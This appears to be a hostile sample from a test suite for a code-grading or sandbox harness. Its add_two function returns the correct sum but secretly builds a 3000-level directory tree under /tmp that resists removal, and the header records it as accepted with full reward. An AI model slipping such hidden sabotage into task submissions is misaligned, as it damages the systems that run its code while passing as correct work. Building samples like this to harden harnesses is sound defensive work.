# hostile: B05 builds a tree deeper than any path can say
# covers: B:deep-tree
# shape: function
# task: add_two
# ending: cancelled
# verdict: accepted
# reward: rlef 1, binary 1
# Removing it by path fails with ENAMETOOLONG, by recursion it exhausts a stack. Dropping the tmpfs does neither.
import os


done = False


def add_two(a, b):
    global done
    if done:
        return a + b
    done = True
    os.chdir("/tmp")
    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return a + b
